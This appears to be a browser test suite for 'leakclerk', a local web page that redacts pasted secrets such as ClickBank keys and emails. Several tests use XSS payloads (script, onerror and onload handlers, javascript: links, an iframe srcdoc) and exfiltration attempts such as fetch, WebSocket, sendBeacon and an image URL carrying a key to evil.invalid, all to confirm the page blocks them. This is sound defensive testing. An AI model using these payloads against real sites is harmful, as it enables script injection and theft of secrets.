// The built paste page as people use it, in a real browser, from a disk: what they paste is redacted before their
// eyes, and nothing else happens.
import { readFileSync } from "node:fs";
import { pathToFileURL } from "node:url";
import type { BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { createFolder } from "../support/folder.ts";
import { clerkKey, developerKey } from "../support/keys.ts";
import { type Browser, clipboard, dropFiles, openBrowser, openPage, PAGE_FILE, paste, result, shown } from "./browser.ts";

const KEY = clerkKey(1);
const OTHER = clerkKey(2);
const MAIL = "jane.doe@shop.invalid";
const TEXT = `key=${KEY}\n\tagain ${KEY}, other ${OTHER}\nfrom <${MAIL}> \u00e9\ud83d\ude00\n`;
const REDACTED = TEXT.replaceAll(KEY, "<CLICKBANK_CLERK_KEY_1>").replaceAll(OTHER, "<CLICKBANK_CLERK_KEY_2>").replaceAll(MAIL, "<EMAIL_1>");

let browser: Browser;
let context: BrowserContext;

beforeAll(async () => {
  browser = await openBrowser();
  context = browser.context;
}, 60_000);

afterAll(() => browser.close());

async function pasted(text: string): Promise<Page> {
  const { page } = await openPage(context);
  await paste(context, page, text);
  await result(page);
  return page;
}

test("a pasted text is shown beside its redaction, with kind and reason, and copied redacted", async () => {
  const page = await pasted(TEXT);
  expect(await shown(page, "original")).toBe(TEXT.replace(/\n$/, ""));
  expect(await shown(page, "redacted")).toBe(REDACTED.replace(/\n$/, ""));
  expect(await page.innerText("#summary")).toMatch(/^3 values hidden in 4 places\n/);
  expect(await page.innerText("#values")).toMatch(/ClickBank clerk key 2[\s\S]*<CLICKBANK_CLERK_KEY_1>[\s\S]*2 places[\s\S]*Email 1/i);
  await page.click("#copy");
  await page.waitForSelector("#toast:not([hidden])");
  expect(await page.innerText("#toast")).toBe("Copied, with 3 values hidden.");
  expect(await clipboard(context)).toBe(REDACTED);
  await page.close();
});

test("a value that is switched off stays visible everywhere, and can be hidden again", async () => {
  const page = await pasted(TEXT);
  await page.click('.tag:text-is("<CLICKBANK_CLERK_KEY_1>")');
  const kept = REDACTED.replaceAll("<CLICKBANK_CLERK_KEY_1>", KEY);
  expect(await shown(page, "redacted")).toBe(kept.replace(/\n$/, ""));
  expect(await page.innerText("#warning")).toBe("1 value stays visible because you chose so, a secret.");
  await page.click("#copy");
  expect(await clipboard(context)).toBe(kept);
  await page.bringToFront();
  await page.getByRole("switch", { name: "Hide all: ClickBank clerk key" }).click();
  expect(await shown(page, "redacted")).toBe(REDACTED.replace(/\n$/, ""));
  await page.getByRole("switch", { name: "Hide <EMAIL_1>" }).click();
  expect(await shown(page, "redacted")).toContain(MAIL);
  await page.close();
});

test("all of it works with keys alone", async () => {
  const page = await pasted(TEXT);
  const focused = (): Promise<string | null | undefined> => page.evaluate(() => document.activeElement?.getAttribute("aria-label"));
  await page.keyboard.press("n");
  expect(await focused()).toBe("clickbank clerk key 1, hidden in 2 places: ClickBank clerk API key");
  expect(await page.innerText("#position")).toBe("1 of 4");
  await page.keyboard.press("n");
  await page.keyboard.press("n");
  await page.keyboard.press("Enter");
  expect(await focused()).toBe("clickbank clerk key 2, kept visible in 1 place: ClickBank clerk API key");
  expect(await page.textContent("#said")).toContain("kept visible");
  await page.keyboard.press("Space");
  expect(await focused()).toMatch(/^clickbank clerk key 2, hidden/);
  await page.keyboard.press("p");
  await page.keyboard.press("p");
  await page.keyboard.press("p");
  expect(await page.innerText("#position")).toBe("4 of 4");
  await page.focus("#again");
  await page.keyboard.press("Enter");
  expect(await page.evaluate(() => document.activeElement?.id)).toBe("input");
  await page.keyboard.type(`typed ${KEY}`);
  await page.keyboard.press("Tab");
  await page.keyboard.press("Enter");
  await result(page);
  expect(await shown(page, "redacted")).toBe("typed <CLICKBANK_CLERK_KEY_1>");
  await page.close();
});

const ENCODINGS: readonly [name: string, encode: (text: string) => Buffer][] = [
  ["utf-8.log", (text) => Buffer.from(text)],
  ["marked.txt", (text) => Buffer.from(`\ufeff${text}`)],
  ["powershell.txt", (text) => Buffer.from(`\ufeff${text}`, "utf16le")],
  ["latin1.log", (text) => Buffer.from(text.replaceAll(/[^\0-\xff]/g, "\xff"), "latin1")],
];

test("a dropped file is redacted and saved in the encoding that it has", async () => {
  const folder = createFolder(Object.fromEntries(ENCODINGS.map(([name, encode]) => [name, encode(TEXT)])));
  const { page } = await openPage(context);
  for (const [name, encode] of ENCODINGS) {
    await dropFiles(context, page, [folder.path(name)]);
    await result(page);
    const [download] = await Promise.all([page.waitForEvent("download"), page.click("#save")]);
    expect(download.suggestedFilename()).toBe(name.replace(/(\.\w+)$/, ".redacted$1"));
    expect(readFileSync(await download.path()).equals(encode(REDACTED)), name).toBe(true);
    await page.click("#again");
  }
  await page.close();
});

test("what cannot be read as text is refused, and nothing is shown", async () => {
  const folder = createFolder({
    "scan.pdf": "%PDF-1.7\n...",
    "photo.png": Buffer.from("89504e470d0a1a0a0000", "hex"),
    "tool.bin": Buffer.from([1, 0, 0, 7, 9, 0, 0, 0, 1, 2, 3, 0]),
    "a.txt": "a",
    "b.txt": "b",
  });
  const { page } = await openPage(context);
  const cases: readonly [files: readonly string[], said: RegExp][] = [
    [["scan.pdf"], /This is a PDF, not a text\./],
    [["photo.png"], /This is not a text\./],
    [["tool.bin"], /This is not a text file\./],
    [["a.txt", "b.txt"], /That was more than one file\./],
  ];
  for (const [files, said] of cases) {
    await dropFiles(
      context,
      page,
      files.map((name) => folder.path(name)),
    );
    await page.waitForSelector("#failed:not([hidden])");
    expect(await page.innerText("#failed")).toMatch(said);
    expect(await page.isVisible("#result")).toBe(false);
    await page.click("#failed-back");
  }
  await page.close();
});

const HOSTILE = [
  `<script>window.ran = 1; alert(1)</script><img src=x onerror="window.ran = 2"><svg onload="window.ran = 3">`,
  `</textarea></script><iframe srcdoc="<script>parent.ran=4</script>"></iframe><style>body{display:none}</style>`,
  `<a href="javascript:window.ran=5">x</a><base href="https://evil.invalid/"><meta http-equiv="refresh" content="0;url=https://evil.invalid">`,
  `\u202eright to left\u202c \u200b \u0007 \u001b[31m {{constructor.constructor('window.ran=6')()}} \${window.ran=7}`,
  `<link rel=stylesheet href=https://evil.invalid/x.css> <img src="https://evil.invalid/?k=${KEY}"> <EMAIL_7> ${MAIL}`,
].join("\n");

test("markup in a text is text: nothing of it runs, loads or hides", async () => {
  const { page, requests, troubles } = await openPage(context);
  await paste(context, page, HOSTILE);
  await result(page);
  await page.click("#next");
  await page.click("#inspector-toggle");
  await page.click("#inspector-toggle");
  const lines = (await shown(page, "redacted")).split("\n");
  expect(lines.slice(0, 3)).toEqual(HOSTILE.split("\n").slice(0, 3));
  // What would turn the writing round is shown by its number.
  expect(lines[3]).toBe(
    `\u2039202e\u203aright to left\u2039202c\u203a \u2039200b\u203a \u2407 \u241b[31m {{constructor.constructor('window.ran=6')()}} \${window.ran=7}`,
  );
  expect(lines[4]).toContain("?k=<CLICKBANK_CLERK_KEY_1>");
  expect(lines[4]).toContain("<EMAIL_7> <EMAIL_8>");
  expect(await page.evaluate(() => (window as { ran?: number }).ran)).toBeUndefined();
  expect(await page.locator(".view :is(script, img, svg, iframe, style, a, base, meta, link)").count()).toBe(0);
  expect(await page.isVisible("body")).toBe(true);
  await page.click("#copy");
  expect(await clipboard(context)).toBe(HOSTILE.replace(KEY, "<CLICKBANK_CLERK_KEY_1>").replace(MAIL, "<EMAIL_8>"));
  expect(troubles).toEqual([]);
  expect(requests.filter((url) => !/^(?:file|blob):/.test(url))).toEqual([]);
  await page.close();
});

test("the policy is there, and holds", async () => {
  const html = readFileSync(PAGE_FILE, "utf8");
  const [, policy = ""] = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html) ?? [];
  expect(policy.split("; ")).toEqual([
    "default-src 'none'",
    expect.stringMatching(/^script-src 'sha256-[^']+' 'sha256-[^']+' 'wasm-unsafe-eval'$/),
    expect.stringMatching(/^style-src 'sha256-[^']+'$/),
    "worker-src blob:",
    "img-src data:",
    "connect-src 'none'",
    "base-uri 'none'",
    "form-action 'none'",
    "require-trusted-types-for 'script'",
    "trusted-types engine",
  ]);
  expect(html).not.toMatch(/(?:src|href|action)=["']?https?:|@import|url\(/);
  const { page } = await openPage(context);
  const blocked = await page.evaluate(async () => {
    const events: string[] = [];
    document.addEventListener("securitypolicyviolation", (event) => events.push(event.effectiveDirective));
    const tries: (() => unknown)[] = [
      () => fetch("https://evil.invalid/"),
      () => new WebSocket("wss://evil.invalid/"),
      () => navigator.sendBeacon("https://evil.invalid/", "x"),
      () => new EventSource("https://evil.invalid/"),
      () => Object.assign(new Image(), { src: "https://evil.invalid/x.png" }),
      () => (document.body.innerHTML = "x"),
      () => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://evil.invalid/" })),
      () => document.body.append(Object.assign(document.createElement("iframe"), { src: "data:text/html,x" })),
    ];
    for (const attempt of tries)
      try {
        await attempt();
      } catch {
        // Refused at once.
      }
    await new Promise((resolve) => setTimeout(resolve, 300));
    return [...new Set(events)].toSorted();
  });
  expect(blocked).toEqual(["connect-src", "frame-src", "img-src", "require-trusted-types-for", "style-src-elem"]);
  await page.close();
});

test("a script that somebody adds to the file does not run", async () => {
  const added = `<script>window.ran = 1</script><img src="x" onerror="window.ran = 2"><svg onload="window.ran = 3"></svg></body>`;
  const folder = createFolder({ "tampered.html": readFileSync(PAGE_FILE, "utf8").replace("</body>", added) });
  const { page, troubles } = await openPage(context, pathToFileURL(folder.path("tampered.html")).href);
  await page.waitForTimeout(200);
  expect(await page.evaluate(() => (window as { ran?: number }).ran)).toBeUndefined();
  expect(troubles.filter((trouble) => trouble.includes("Content Security Policy")).length).toBeGreaterThan(2);
  await page.close();
});

test("nothing is stored", async () => {
  const page = await pasted(TEXT);
  const stored = await page.evaluate(async () => {
    const databases = await indexedDB.databases().catch(() => []);
    return { local: localStorage.length, session: sessionStorage.length, cookie: document.cookie, databases: databases.length };
  });
  expect(stored).toEqual({ local: 0, session: 0, cookie: "", databases: 0 });
  expect(await page.inputValue("#input")).toBe("");
  await page.reload();
  expect(await page.inputValue("#input")).toBe("");
  expect(await page.isVisible("#start")).toBe(true);
  await page.close();
});

test("screen readers get a name for everything that can be used", async () => {
  const page = await pasted(TEXT);
  await page.keyboard.press("n");
  const session = await context.newCDPSession(page);
  const { nodes } = await session.send("Accessibility.getFullAXTree");
  const usable = nodes.filter(
    ({ ignored, role }) => !ignored && ["button", "switch", "checkbox", "textbox", "region", "progressbar"].includes(String(role?.value)),
  );
  expect(usable.length).toBeGreaterThan(12);
  expect(usable.filter(({ name }) => String(name?.value ?? "").trim() === "").map(({ role }) => role?.value)).toEqual([]);
  const headings = nodes.filter(({ ignored, role }) => !ignored && role?.value === "heading").map(({ name }) => name?.value);
  expect(headings).toEqual(["leakclerk paste redactor", "What was replaced"]);
  for (const role of ["banner", "main", "contentinfo", "complementary"])
    expect(
      nodes.some((node) => !node.ignored && node.role?.value === role),
      role,
    ).toBe(true);
  expect(await page.getAttribute("html", "lang")).toBe("en");
  await page.close();
});

test("on a phone one pane is shown at a time, and nothing is wider than the screen", async () => {
  const page = await pasted(TEXT);
  await page.setViewportSize({ width: 360, height: 640 });
  const panes = async (): Promise<readonly boolean[]> => [
    await page.locator(".cell.original").first().isVisible(),
    await page.locator(".cell.redacted").first().isVisible(),
    await page.locator(".values").isVisible(),
  ];
  expect(await panes()).toEqual([false, true, false]);
  await page.getByRole("button", { name: "Original", exact: true }).click();
  expect(await panes()).toEqual([true, false, false]);
  await page.getByRole("button", { name: "Values", exact: true }).click();
  expect(await panes()).toEqual([false, false, true]);
  await page.getByRole("button", { name: "<EMAIL_1>" }).click();
  expect(await panes()).toEqual([false, true, false]);
  expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
  await page.close();
});

test("where no worker runs, the engine runs in the page", async () => {
  const { page, troubles } = await openPage(context);
  await page.addInitScript(() => {
    Object.assign(globalThis, {
      Worker: function () {
        throw new DOMException("not from a file", "SecurityError");
      },
    });
  });
  await page.reload();
  await paste(context, page, TEXT);
  await result(page);
  expect(await shown(page, "redacted")).toBe(REDACTED.replace(/\n$/, ""));
  await page.click("#again");
  await paste(context, page, "x".repeat(1_000_001));
  await page.waitForSelector("#failed:not([hidden])");
  expect(await page.innerText("#failed")).toMatch(/lets no worker run[\s\S]*leakclerk redact/);
  expect(troubles).toEqual([]);
  await page.close();
});

test("a clean text is said to be unproven, and stays as it is", async () => {
  const page = await pasted("nothing here\n");
  expect(await page.innerText("#values")).toMatch(/^Nothing to replace was found\. That is no proof/);
  await page.click("#copy");
  expect(await clipboard(context)).toBe("nothing here\n");
  await page.close();
});

test("version and rule count are shown", async () => {
  const { page } = await openPage(context);
  const manifest = JSON.parse(readFileSync(new URL("../../package.json", import.meta.url), "utf8")) as { version: string };
  expect(await page.innerText("#about")).toMatch(
    new RegExp(`^leakclerk ${manifest.version.replaceAll(".", "\\.")} \u00b7 \\d{2,} rules \\([0-9a-f]{8}\\)$`),
  );
  await page.close();
});

test("a developer key and a pair are replaced half by half", async () => {
  const page = await pasted(`Authorization: ${developerKey(3)}:${KEY}\n`);
  expect(await shown(page, "redacted")).toBe("Authorization: <CLICKBANK_DEVELOPER_KEY_1>:<CLICKBANK_CLERK_KEY_1>");
  await page.close();
});

/** What Chromium itself asks for, whatever its flags say. */
const OF_BROWSER = /^[A-Z]+ (?:https?:\/\/)?[\w.-]+\.(?:google|googleapis|gvt1)\.com[:/]/;

test("in all of this, no connection was tried", () => {
  expect(browser.asked.filter((line) => !OF_BROWSER.test(line))).toEqual([]);
});
